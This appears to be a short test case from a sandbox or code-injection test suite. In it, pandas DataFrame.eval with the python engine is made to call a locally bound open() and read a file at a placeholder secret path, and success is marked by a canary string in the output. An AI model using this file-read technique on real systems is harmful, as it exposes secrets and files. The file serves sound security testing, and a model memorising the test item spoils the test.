# class: pandas-eval
# technique: DataFrame.eval calls a local function with a path
# success: output_has @@CANARY@@
import pandas as pd
df = pd.DataFrame({'a': ['@@SECRET@@']})
read = open
print(df.eval("@read('@@SECRET@@').read()", engine='python'))
